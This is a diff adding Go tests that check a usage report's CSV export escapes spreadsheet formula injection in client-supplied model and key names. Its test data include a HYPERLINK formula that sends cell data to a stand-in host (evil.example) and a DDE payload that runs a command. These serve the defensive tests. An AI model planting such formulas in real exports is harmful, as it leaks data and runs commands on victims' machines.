@@ -3,7 +3,11 @@ package admin
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
+	"path/filepath"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -110,5 +114,103 @@ func TestReportCacheColumns(t *testing.T) {
 	}
 	if tot := got.Totals; tot.CacheHits == nil || *tot.CacheHits != 2 || tot.SavedUSD == nil || *tot.SavedUSD != 0.00048 || tot.CostUSD != 0.00063 {
 		t.Errorf("totals: %s", body)
+	}
+}
+
+// injected are model names a client can send (they are stored for
+// refused requests) that a spreadsheet would run as formulas, and
+// harmless ones that must stay as they are.
+var injected = []string{
+	`=HYPERLINK("http://evil.example/?d="&A1,"click")`,
+	`=cmd|' /C calc'!A0`,
+	"+1+1",
+	"-2+3",
+	"@SUM(A1:A9)",
+	"\t=1+1",
+	"\r=1+1",
+	"\n=1+1",
+	"openai/gpt-4o-mini",
+	"a=b",
+	"'=quoted",
+	"",
+}
+
+// TestReportCSVInjection pins the CSV of client-chosen model and key
+// names (golden file): a cell a spreadsheet would evaluate starts with a
+// single quote, every other text cell and every number is unchanged.
+func TestReportCSVInjection(t *testing.T) {
+	s, err := usage.Open(context.Background(), filepath.Join(t.TempDir(), "u.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { s.Close() })
+	var rows []usage.Row
+	for i, m := range injected {
+		at := day1.Add(time.Duration(i) * time.Minute)
+		key := "key-a"
+		if i%3 == 1 {
+			key = "-" + key // a key id is the server's, but a report must not trust any text
+		}
+		rows = append(rows, usage.RowOf(llmbridge.UsageRecord{ID: llmbridge.NewRecordID(at), Time: at, KeyID: key, Model: m, Status: 401,
+			Error: "=HYPERLINK(\"x\")", Duration: time.Millisecond}, usage.DefaultPrices()))
+	}
+	rows = append(rows, rec(day1, "@key-b", "openai", "gpt-4o-mini", 1000, 600, 200, 200))
+	if _, err := s.Insert(context.Background(), rows); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := s.Report(context.Background(), usage.Query{From: "2026-11-23", To: "2026-11-23", GroupBy: []string{"model", "key", "provider"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	if err := WriteReportCSV(&out, rep); err != nil {
+		t.Fatal(err)
+	}
+	golden.Check(t, "report_injection.golden.csv", out.Bytes())
+
+	records, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != len(injected)+2 {
+		t.Fatalf("%d lines, want a header and %d rows:\n%s", len(records), len(injected)+1, out.Bytes())
+	}
+	seen := map[string]bool{}
+	for _, r := range records[1:] {
+		for i, c := range r {
+			if i < 3 {
+				if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
+					t.Errorf("text cell %q would be a formula", c)
+				}
+				if i == 0 {
+					seen[c] = true
+				}
+				continue
+			}
+			if _, err := strconv.ParseFloat(c, 64); err != nil && c != "" {
+				t.Errorf("number column %s: %q is not a number", records[0][i], c)
+			}
+		}
+	}
+	for _, m := range injected {
+		want := m
+		if m != "" && strings.ContainsRune("=+-@\t\r\n", rune(m[0])) {
+			want = "'" + m
+		}
+		if !seen[want] {
+			t.Errorf("model %q: no cell %q in\n%s", m, want, out.Bytes())
+		}
+	}
+}
+
+// textCell escapes only what a spreadsheet evaluates.
+func TestTextCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
+		"gpt-4o": "gpt-4o", "a-1": "a-1", "'=1": "'=1", " =1": " =1", "": "", "１": "１",
+	} {
+		if got := textCell(in); got != want {
+			t.Errorf("textCell(%q) = %q, want %q", in, got, want)
+		}
 	}
 }
